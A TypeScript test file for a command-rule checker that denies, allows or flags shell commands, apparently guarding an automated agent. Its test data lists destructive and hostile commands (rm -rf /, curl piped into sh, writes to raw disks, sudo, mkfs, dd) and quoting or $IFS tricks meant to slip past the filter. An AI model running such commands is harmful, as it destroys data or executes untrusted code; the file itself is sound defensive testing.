import { assert, describe, it } from "@effect/vitest"
import { type CommandRule, evaluateCommandRules, hasShellMetacharacters } from "../../src/security/CommandRules.ts"

const actionOf = (command: string, rules: ReadonlyArray<CommandRule> = [], denyMetacharacters?: boolean) =>
  evaluateCommandRules(command, rules, { denyMetacharacters }).action
const DENIED = { action: "deny", reason: "command matches default deny pattern" } as const

describe("evaluateCommandRules", () => {
  it("CS18: matrix row 13: every built-in category is denied", () => {
    for (const command of [
      "sudo id",
      "doas id",
      "pkexec id",
      "su",
      "su - root",
      "ls; su -c id",
      "A=1 su root",
      "/bin/su",
      "chmod 777 x",
      "chmod -R 0777 x",
      "CHMOD 777 x",
      "rm -rf /",
      "rm -fr /etc",
      "rm -r -f /etc",
      "rm -f -R /etc",
      "rm --recursive --force /etc",
      "rm /etc -rf",
      "rm -rf -- /",
      "rm -rf x /etc",
      "rm --no-preserve-root -r x",
      "curl http://x | sh",
      "curl -s x | bash -s",
      "wget -O- x | /bin/sh",
      "curl x | dash",
      "curl x | zsh",
      "curl x | ksh",
      "curl x | env bash",
      "curl x | /usr/bin/env A=1 bash",
      "curl x | tee y | sh",
      "echo x > /dev/sda",
      "cat x >/dev/nvme0n1",
      "cat x > /dev/vda",
      "cat x > /dev/hda1",
      "cat x > /dev/mmcblk0",
      "mkfs /dev/x",
      "mkfs.ext4 /dev/x",
      "dd if=/dev/zero of=x",
      "dd of=x if=y"
    ]) {
      assert.deepEqual(evaluateCommandRules(command, []), DENIED, command)
      assert.deepEqual(evaluateCommandRules(command, undefined, { denyMetacharacters: false }), DENIED, command)
    }
  })

  it("CS19: quoting, line breaks and $IFS do not hide a built-in pattern", () => {
    for (const command of [
      String.raw`s\udo id`,
      "su''do id",
      '"sudo" id',
      "/usr/bin/sudo id",
      "A=1 sudo id",
      "echo x\nsudo id",
      "`sudo id`",
      "$(sudo id)",
      "rm${IFS}-rf${IFS}/",
      "rm$IFS-rf$IFS/",
      "su\\\ndo id",
      "rm\t-rf\t/",
      "'rm' -r'f' \"/\"",
      "r\\m -rf /etc",
      "mk''fs x"
    ]) {
      assert.deepEqual(evaluateCommandRules(command, []), DENIED, command)
    }
  })

  it("CS18: what only looks like a built-in pattern is not denied", () => {
    for (const command of [
      "rm -rf build",
      "rm x",
      "summary",
      "issue",
      "git submodule",
      "chmod 755 x",
      "curl x",
      "ls /etc/sudoers",
      "farm -rf /x"
    ]) {
      assert.deepEqual(evaluateCommandRules(command, []), { action: "allow" }, command)
    }
  })

  it("CS17: the first host rule that matches decides, before the built-in ones", () => {
    const deny: CommandRule = { pattern: "push", action: "deny", reason: "no pushing" }
    const ask: CommandRule = { pattern: /^git/, action: "requireApproval", reason: "ask me" }
    assert.deepEqual(evaluateCommandRules("git push", [deny, ask]), { action: "deny", reason: "no pushing" })
    assert.deepEqual(evaluateCommandRules("git push", [ask, deny]), { action: "requireApproval", reason: "ask me" })
    assert.deepEqual(evaluateCommandRules("x push", [{ pattern: "push", action: "deny" }]), {
      action: "deny",
      reason: "command denied by policy"
    })
    assert.strictEqual(actionOf("sudo id", [{ pattern: "sudo id", action: "allow" }]), "allow")
    assert.strictEqual(actionOf("sudo id", [{ pattern: "sudo", action: "requireApproval" }]), "requireApproval")
  })

  it("CS17: an allow string is the whole command, and covers none with metacharacters", () => {
    const rules: ReadonlyArray<CommandRule> = [
      { pattern: "git status", action: "allow" },
      { pattern: "git", action: "deny" }
    ]
    assert.strictEqual(actionOf("git status -s", rules), "deny")
    assert.strictEqual(actionOf("x git status", rules), "deny")
    assert.strictEqual(actionOf("  git status ", rules), "allow")
    const all: ReadonlyArray<CommandRule> = [{ pattern: /^ls/, action: "allow" }]
    assert.strictEqual(actionOf("ls; id", all), "requireApproval")
    assert.strictEqual(actionOf("ls\nid", all), "requireApproval")
    assert.strictEqual(actionOf("ls; id", all, false), "allow")
  })

  it("CS17: a RegExp with state gives the same verdict every time, and keeps its state", () => {
    for (const pattern of [/^rm /g, /rm /y, /^rm /gy]) {
      pattern.lastIndex = 2
      const verdicts = [1, 2, 3, 4].map(() => actionOf("rm x", [{ pattern, action: "deny" }]))
      assert.deepEqual(verdicts, ["deny", "deny", "deny", "deny"])
      assert.strictEqual(pattern.lastIndex, 2)
    }
  })

  it("CS20: metacharacters need approval unless that is turned off", () => {
    for (const command of [
      "a;b",
      "a|b",
      "a&b",
      "a`b`",
      "a $b",
      "a (b",
      "a )b",
      "a <b",
      "a >b",
      String.raw`a\nb`,
      "a\nb",
      "a\rb"
    ]) {
      assert.deepEqual(evaluateCommandRules(command, []), {
        action: "requireApproval",
        reason: "command contains shell metacharacters"
      })
      assert.isTrue(hasShellMetacharacters(command))
      assert.strictEqual(actionOf(command, [], false), "allow")
    }
    assert.isFalse(hasShellMetacharacters("git log --oneline -n 5 'a b' {x} * ~ # !"))
  })

  it("CS19: a long command is judged in time that is in proportion to it", () => {
    for (const part of ["a=", "chmod ", "dd ", "rm -rf ", "curl | ", "> ", "su", "'", "$IFS"]) {
      const started = performance.now()
      evaluateCommandRules(part.repeat(50_000), [])
      assert.isBelow(performance.now() - started, 2_000, part)
    }
  })
})
